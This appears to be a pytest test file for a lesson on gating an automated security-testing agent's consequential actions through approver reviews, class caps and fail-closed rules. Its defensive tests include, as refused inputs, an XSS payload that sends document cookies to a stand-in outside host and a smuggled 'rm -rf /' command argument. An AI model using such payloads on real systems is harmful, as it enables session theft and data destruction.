"""Lesson 8 completion suite: gating consequential actions in the door.

Every test here is one completion sentence of the lesson page (its docstring,
word for word). The taxonomy table and the gate's decision on their own are
tested in tests/test_run_taxonomy.py; helper tests live in
tests/test_run_lessons_6_8_edges.py.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from core.run.doors import door_for
from core.run.drive import execute_reviewed
from core.run.execute import AdapterResult, execute
from core.run.gate import Gating, GatingError, act_subject, gate_state
from core.run.policy import Policy
from core.run.recorder import Recorder
from core.run.records import make_run
from core.run.verify import Check, Plan, check_finding

from .lab_run import go_to

CONFIG = json.loads((Path(__file__).resolve().parent.parent / "data/policy/training-authorization-0001.json")
                    .read_text(encoding="utf-8"))
PROBE = "probe_reflection -> https://lab.example:443/debug"
MARKER = {"parameter": "q", "marker": "<i>7</i>"}
HELD = ("probe.active_light is consequential; it waits for an approved review of this exact act by "
        "engagement-lead")
LIST_TOOL = {"tool_id": "list_directory", "activity": "recon.enumerate", "requires": {}, "family": "fam-recon",
             "weight": 1.0, "cost": 1.0}


class Lab:
    """An adapter that answers every URL with a small page and counts the calls."""

    def __init__(self):
        self.calls: list[str] = []

    def fetch(self, url: str) -> AdapterResult:
        self.calls.append(url)
        return AdapterResult(200, (("Content-Type", "text/html"),), f"<p>{url}</p>")


def gated(stage: str = "execute", caps: dict | None = None, fail_open: list | None = None, extra_tools: list = (),
          world: str = "lesson-8", plan: Plan | None = None) -> Recorder:
    """Lesson 8's door under the reference policy (with ``extra_tools``), moved to ``stage``.

    These tests hand acts to the gate directly; choosing them is lesson 5's
    business, so the door is built without its guard is_the_selection. In
    the verify stage it admits the acts of ``plan`` (lesson 7's guard).
    """
    policy = Policy.from_dict({**CONFIG["policy"], "tools": CONFIG["policy"]["tools"] + list(extra_tools)})
    gating = Gating.from_dict({"taxonomy_version": 2, "caps": {"recon.passive": 10} if caps is None else caps,
                               "fail_open_classes": fail_open or []})
    recorder = door_for(8, make_run(policy.snapshot(), {"world": world}), policy, gating, plan=plan,
                        without=("is_the_selection",))
    go_to(recorder, stage)
    return recorder


def admit(recorder, tool: str, destination: str) -> dict:
    """Record an action and, if it was admitted, its succeeded outcome, so the gate's view stays current."""
    answer = recorder.record("action", action(recorder, tool, destination))
    if answer["recorded"]:
        settled = {"run_id": recorder.run.run_id, "action_id": answer["id"], "status": "succeeded"}
        assert recorder.record("outcome", settled)["recorded"]
    return answer


def held(recorder) -> dict:
    """The acts the gate holds: subject -> canonical class."""
    return {subject: action_class for subject, (action_class, _) in gate_state(recorder).held.items()}


def action(recorder, tool: str, destination: str, arguments: dict | None = None) -> dict:
    return {"run_id": recorder.run.run_id, "tool": tool, "destination": destination, "arguments": arguments or {}}


def review(recorder, subject: str, reviewer: str = "engagement-lead", decision: str = "approved") -> dict:
    return recorder.record("review", {"run_id": recorder.run.run_id, "subject_id": subject, "decision": decision,
                                      "reviewer": reviewer, "reason": "scope checked"})


def stores(recorder) -> dict:
    return {key: value for key, value in recorder.snapshot().items() if key not in ("events", "counts")}


def test_a_held_action_runs_after_its_approver_role_approves_that_exact_act():
    """A consequential action is refused as held with the gate's reason, and once its declared approver role records an approved review of that exact act (its identity and the digest of its arguments), the same action is admitted and executed."""
    recorder, lab = gated(), Lab()
    probe = action(recorder, "probe_reflection", "https://lab.example/debug", MARKER)
    subject = act_subject(PROBE, MARKER)
    before = stores(recorder)
    refused = execute(recorder, probe, lab)
    assert (refused.status, refused.detail) == ("refused", HELD)
    assert stores(recorder) == before and lab.calls == []
    assert held(recorder) == {subject: "probe.active_light"}
    assert review(recorder, PROBE)["reason"] == f"review names subject '{PROBE}' that this run does not hold"
    assert review(recorder, subject)["recorded"]
    done = execute(recorder, probe, lab)
    assert done.status == "succeeded" and done.action_id == PROBE
    assert lab.calls == ["https://lab.example:443/debug?q=%3Ci%3E7%3C%2Fi%3E"]
    ledger = [(e["kind"], e["status"]) for e in recorder.events if e["kind"] in ("action", "review")]
    assert ledger == [("action", "refused"), ("review", "refused"), ("review", "admitted"), ("action", "admitted")]
    assert recorder.records("review")[0]["subject_id"] == subject


def test_an_approval_covers_only_the_arguments_the_reviewer_saw():
    """An approval covers one exact act: the same identity with other arguments is held again, counts as a CHANGE, and needs its own approved review."""
    recorder, lab = gated(), Lab()
    seen = action(recorder, "probe_reflection", "https://lab.example/debug", MARKER)
    execute(recorder, seen, lab)
    assert review(recorder, act_subject(PROBE, MARKER))["recorded"]
    swapped = {"parameter": "q", "marker": "<script>fetch('//other.example/'+document.cookie)</script>"}
    other = action(recorder, "probe_reflection", "https://lab.example/debug", swapped)
    answer = execute(recorder, other, lab)
    assert answer.status == "refused"
    assert answer.detail == ("probe.active_light is consequential and amends an act approved with other arguments "
                             "(trigger CHANGE); it waits for an approved review of this exact act by engagement-lead")
    assert lab.calls == [] and recorder.records("action") == []
    assert set(held(recorder)) == {act_subject(PROBE, MARKER), act_subject(PROBE, swapped)}
    assert execute(recorder, seen, lab).status == "succeeded"
    assert lab.calls == ["https://lab.example:443/debug?q=%3Ci%3E7%3C%2Fi%3E"]


def test_a_passive_tool_cannot_do_a_probes_work():
    """A tool's arguments are declared in the policy: a passive tool handed a probe's parameter and marker, or a query, is refused before any budget is spent, and a passive class may declare no arguments at all."""
    recorder, lab = gated(), Lab()
    smuggled = action(recorder, "inspect_headers", "https://lab.example/debug",
                      {"parameter": "q", "marker": "lab-probe-<i>9</i>"})
    assert recorder.record("action", smuggled) == {"recorded": False, "reason": (
        "tool 'inspect_headers' does not declare the argument 'marker' (it declares none)")}
    command = action(recorder, "inspect_headers", "https://lab.example/", {"command": "rm -rf /"})
    assert "does not declare the argument 'command'" in recorder.record("action", command)["reason"]
    query = action(recorder, "inspect_headers", "https://lab.example/debug?q=%3Cscript%3E")
    assert recorder.record("action", query)["reason"] == (
        "tool 'inspect_headers' declares no arguments, so its destination may carry no query")
    assert execute(recorder, smuggled, lab).status == "refused" and lab.calls == []
    assert recorder.records("action") == [] and gate_state(recorder).used == {}
    probing = {**CONFIG["policy"]["tools"][0], "arguments": {"parameter": "string", "marker": "string"}}
    policy = Policy.from_dict({**CONFIG["policy"], "tools": [probing, *CONFIG["policy"]["tools"][1:]]})
    with pytest.raises(GatingError, match="'inspect_headers' is of the class 'recon.passive', which is not "
                                          "consequential, so it may take no arguments"):
        door_for(8, make_run(policy.snapshot(), {"world": "x"}), policy, Gating.from_dict(CONFIG["gating"]))


def test_a_review_by_another_role_does_not_release_a_held_action():
    """A review of a held action by any role other than its declared approver is refused, and the action stays held."""
    recorder = gated()
    probe = action(recorder, "probe_reflection", "https://lab.example/debug")
    subject = act_subject(PROBE, {})
    assert recorder.record("action", probe)["reason"] == HELD
    for reviewer in ("client-liaison", "operator", "Engagement-Lead"):
        answer = review(recorder, subject, reviewer=reviewer)
        assert answer == {"recorded": False, "reason": f"held act '{subject[:80]}'... waits for a review by "
                                                       f"engagement-lead, not by '{reviewer}'"}
    assert recorder.records("review") == []
    assert recorder.record("action", probe) == {"recorded": False, "reason": HELD}
    other = act_subject("probe_reflection -> https://lab.example:443/search", {})
    assert review(recorder, other)["reason"] == f"review names subject '{other[:80]}'... that this run does not hold"


def test_a_rejected_review_turns_the_hold_into_a_denial():
    """A rejected review by the approver role turns the hold into a denial, and no later review can undo it."""
    recorder = gated()
    probe = action(recorder, "probe_reflection", "https://lab.example/debug")
    subject = act_subject(PROBE, {})
    recorder.record("action", probe)
    rejection = review(recorder, subject, decision="rejected")
    assert rejection["recorded"]
    assert recorder.record("action", probe)["reason"] == (
        f"probe.active_light is consequential; engagement-lead rejected this exact act in review {rejection['id']}")
    assert review(recorder, subject)["reason"] == f"subject '{subject[:80]}'... already has a review decision"
    assert recorder.records("action") == []


def test_an_action_over_its_cap_with_no_approver_role_is_denied_not_held():
    """A non-consequential action over its class's cap is denied, not held, when its class declares no approver role, and is held for review when it declares one."""
    recorder = gated(caps={"recon.passive": 1, "recon.enumerate": 0}, extra_tools=[LIST_TOOL])
    assert admit(recorder, "inspect_headers", "https://lab.example/")["recorded"]
    over = admit(recorder, "inspect_headers", "https://lab.example/about")
    assert over["reason"] == ("recon.passive is not consequential but has used 1 of its cap of 1; no approver role "
                              "is declared for it, so it is denied, not held")
    about = act_subject("inspect_headers -> https://lab.example:443/about", {})
    assert about not in held(recorder)
    assert "that this run does not hold" in review(recorder, about)["reason"]
    listing = admit(recorder, "list_directory", "https://lab.example/backup/")
    assert listing["reason"] == ("recon.enumerate is not consequential but has used 0 of its cap of 0; "
                                 "it waits for an approved review of this exact act by engagement-lead")
    assert held(recorder) == {act_subject("list_directory -> https://lab.example:443/backup/", {}): "recon.enumerate"}


def test_a_cap_named_by_a_legacy_alias_binds_its_canonical_class():
    """A cap written under a class's legacy name binds the canonical class, so an old name cannot hide a cap."""
    recorder = gated(caps={"passive": 1})
    assert recorder.parts["gating"].caps == {"recon.passive": 1}
    assert admit(recorder, "inspect_headers", "https://lab.example/")["recorded"]
    assert admit(recorder, "inspect_headers", "https://lab.example/a")["reason"] == (
        "recon.passive is not consequential but has used 1 of its cap of 1; no approver role is declared for it, "
        "so it is denied, not held")
    with pytest.raises(GatingError, match="two caps name the class 'recon.passive'"):
        Gating.from_dict({"taxonomy_version": 2, "caps": {"passive": 1, "recon.passive": 2}, "fail_open_classes": []})


def test_fail_open_applies_only_where_configured():
    """While an earlier act's outcome is unresolved the gate's view is stale: only a class the taxonomy lets fail open and the run configures to proceeds, every other class is denied, and a configuration asking a class the taxonomy forbids to fail open is refused."""

    def stale(recorder):
        first = recorder.record("action", action(recorder, "inspect_headers", "https://lab.example/"))
        unresolved = {"run_id": recorder.run.run_id, "action_id": first["id"], "status": "unresolved",
                      "detail": "the adapter never answered"}
        assert recorder.record("outcome", unresolved)["recorded"]
        return recorder

    configured = stale(gated(fail_open=["recon.passive"]))
    assert configured.record("action", action(configured, "inspect_headers", "https://lab.example/a"))["recorded"]
    assert configured.record("action", action(configured, "probe_reflection", "https://lab.example/debug"))["reason"] \
        == ("the gate's view is stale (an earlier act's outcome is unresolved); probe.active_light may not fail open: "
            "fail closed")
    assert held(configured) == {}
    unconfigured = stale(gated(world="unconfigured"))
    assert unconfigured.record("action", action(unconfigured, "inspect_headers", "https://lab.example/a"))["reason"] \
        == ("the gate's view is stale (an earlier act's outcome is unresolved); recon.passive may fail open but this "
            "run does not configure it to: fail closed")
    settled = gated(world="settled")
    first = settled.record("action", action(settled, "inspect_headers", "https://lab.example/"))
    settled.record("outcome", {"run_id": settled.run.run_id, "action_id": first["id"], "status": "succeeded"})
    assert settled.record("action", action(settled, "probe_reflection", "https://lab.example/debug"))["reason"] == HELD
    with pytest.raises(GatingError, match="lists probe.active_light, which the taxonomy does not let fail open"):
        Gating.from_dict({"taxonomy_version": 2, "caps": {}, "fail_open_classes": ["probe.active_light"]})


def test_failing_open_never_lifts_a_cap():
    """Failing open never lifts a cap: while the gate's view is stale, a class configured to fail open proceeds only within its cap, and past it is denied like any other."""
    recorder = gated(caps={"recon.passive": 2}, fail_open=["recon.passive"], world="stale-cap")
    first = recorder.record("action", action(recorder, "inspect_headers", "https://lab.example/"))
    unresolved = {"run_id": recorder.run.run_id, "action_id": first["id"], "status": "unresolved",
                  "detail": "the adapter never answered"}
    assert recorder.record("outcome", unresolved)["recorded"]
    assert recorder.record("action", action(recorder, "inspect_headers", "https://lab.example/a"))["recorded"]
    before = stores(recorder)
    assert recorder.record("action", action(recorder, "inspect_headers", "https://lab.example/b"))["reason"] == (
        "the gate's view is stale (an earlier act's outcome is unresolved); recon.passive may fail open, but not "
        "past its cap: fail closed")
    assert stores(recorder) == before and gate_state(recorder).used == {"recon.passive": 2}


def test_every_catalogue_tool_declares_a_canonical_class():
    """Every tool in the reference run's catalogue declares a canonical action class, and no door is built for a catalogue with an unknown or legacy class."""
    policy = Policy.from_dict(CONFIG["policy"])
    assert {tool.tool_id: tool.activity for tool in policy.tools} == {
        "inspect_headers": "recon.passive", "inspect_metadata": "recon.passive", "probe_reflection": "probe.active_light"}
    gating = Gating.from_dict(CONFIG["gating"])
    run = make_run(policy.snapshot(), {"world": "catalogue"})
    assert "the_gate" in [guard.__name__ for guard in door_for(8, run, policy, gating).guards]
    for activity, problem in (("passive", "declares the legacy class 'passive'; declare its canonical name"),
                              ("scan.everything", "declares 'scan.everything', which is not a class")):
        tools = [{**CONFIG["policy"]["tools"][0], "activity": activity}] + CONFIG["policy"]["tools"][1:]
        odd = Policy.from_dict({**CONFIG["policy"], "tools": tools})
        with pytest.raises(GatingError, match=problem):
            door_for(8, make_run(odd.snapshot(), {"world": "catalogue"}), odd, gating)


def test_the_gate_judges_only_what_the_policy_authorized():
    """The gate runs after the policy: an action the policy refuses gets the policy's reason and is never held."""
    recorder = gated()
    refusals = {
        ("probe_reflection", "https://other.example/debug"):
            "destination https://other.example:443 is outside the explicit authorized origins",
        ("exploit_debug", "https://lab.example/debug"): "tool 'exploit_debug' is not declared in the catalogue",
    }
    for (tool, destination), reason in refusals.items():
        assert recorder.record("action", action(recorder, tool, destination)) == {"recorded": False, "reason": reason}
    assert held(recorder) == {}
    assert review(recorder, act_subject("probe_reflection -> https://other.example:443/debug", {}))["recorded"] is False


def test_verification_actions_are_gated_like_any_other():
    """A confirming probe planned by verification is held like any other consequential action, and it runs only after its own approved review."""
    check = Check.from_dict({
        "claim": "The debug page echoes its q parameter.",
        "evidence": {"action": "inspect_headers -> https://lab.example:443/debug", "quote": "lab.example:443/debug"},
        "confirm": {"tool": "probe_reflection", "destination": "https://lab.example/debug?q=x", "arguments": {}},
        "control": {"tool": "inspect_headers", "destination": "https://lab.example/contact", "arguments": {}},
        "expect": "/debug"})
    confirm = act_subject("probe_reflection -> https://lab.example:443/debug?q=x", {})
    approval = {"reviewer": "engagement-lead", "decision": "approved", "reason": "one light probe"}
    verdicts = {}
    for reviews in ({}, {confirm: approval}):
        recorder, lab = gated(world=f"verify-with-{len(reviews)}-reviews", plan=Plan((check,))), Lab()
        assert execute(recorder, action(recorder, "inspect_headers", "https://lab.example/debug"), lab).status == "succeeded"
        go_to(recorder, "verify")
        check_finding(recorder, check, lambda payload: execute_reviewed(recorder, payload, lab, reviews))
        assert confirm in held(recorder)
        verdicts[len(reviews)] = recorder.records("verdict")[0]["verdict"]
        confirm_calls = [url for url in lab.calls if "q=x" in url]
        assert confirm_calls == ([] if not reviews else ["https://lab.example:443/debug?q=x"])
    assert verdicts == {0: "inconclusive", 1: "confirmed"}
